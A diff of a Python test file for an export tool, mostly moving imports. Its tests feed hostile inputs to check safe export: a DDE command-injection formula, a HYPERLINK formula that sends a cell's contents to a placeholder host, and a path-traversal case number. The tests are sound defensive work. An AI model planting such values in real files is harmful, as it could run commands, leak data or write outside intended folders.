@@ -11,9 +11,10 @@ from pathlib import Path
 import pytest
 from store_helpers import case_form, project_form
 
-from wulong_desk.services import cases, projects
-from wulong_desk.services.exports import export_ledger
-from wulong_desk.services.survey import template_bytes
+from wulong_desk.services.cases import changes as cases
+from wulong_desk.services.documents.exports import export_ledger
+from wulong_desk.services.exchange.survey import template_bytes
+from wulong_desk.services.projects import project as projects
 from wulong_desk.store import open_memory
 
 ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&C5,"点这里")',
@@ -46,7 +47,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path, store, publ
         cases.save_case(store, project_id, form)
     out = tmp_path / "ledger.xlsx"
     if public:  # every household, none signed yet: the notice lists them marked 拟
-        from wulong_desk.services.notices import export_notice
+        from wulong_desk.services.documents.notices import export_notice
 
         export_notice(store, project_id, out, include_unsigned=True)
     else:
@@ -78,7 +79,7 @@ def _project_with(store, numbers: list[str]) -> int:
 
 def test_a_case_number_never_leaves_the_chosen_folder(tmp_path, store):
     # before: ../../victim/FR-0001 from a package wrote outside --out-dir
-    from wulong_desk.services.exports import export_documents
+    from wulong_desk.services.documents.exports import export_documents
 
     project_id = _project_with(store, ["../../victim/FR-0001", "CON", "A:B*?"])
     out = tmp_path / "a" / "b" / "out"
@@ -93,7 +94,7 @@ def test_a_case_number_never_leaves_the_chosen_folder(tmp_path, store):
 
 
 def test_case_numbers_differing_only_in_letter_case_get_two_files(tmp_path, store):
-    from wulong_desk.services.exports import export_documents
+    from wulong_desk.services.documents.exports import export_documents
 
     # two numbers (FR-0001 and fr-0001 are one household now: tests/test_case_identity.py)
     # whose file names differ only in letter case once made safe: FR_0001, fr_0001
@@ -111,8 +112,9 @@ from pathlib import Path
 sys.path.insert(0, sys.argv[3])
 from store_helpers import case_form, project_form
 from wulong_desk.exports import ledger
-from wulong_desk.services import cases, projects
-from wulong_desk.services.exports import export_documents, export_ledger
+from wulong_desk.services.cases import changes as cases
+from wulong_desk.services.projects import project as projects
+from wulong_desk.services.documents.exports import export_documents, export_ledger
 from wulong_desk.store import open_memory
 
 store = open_memory("制表员")
@@ -192,8 +194,8 @@ def test_copies_holding_personal_data_are_owner_only(tmp_path, store):
     import os
     import stat
 
-    from wulong_desk.services.exports import export_documents
-    from wulong_desk.services.packages import export_cases
+    from wulong_desk.services.documents.exports import export_documents
+    from wulong_desk.services.exchange.packages import export_cases
     from wulong_desk.store import backups, open_store
 
     project_id = _project_with(store, ["M-1"])
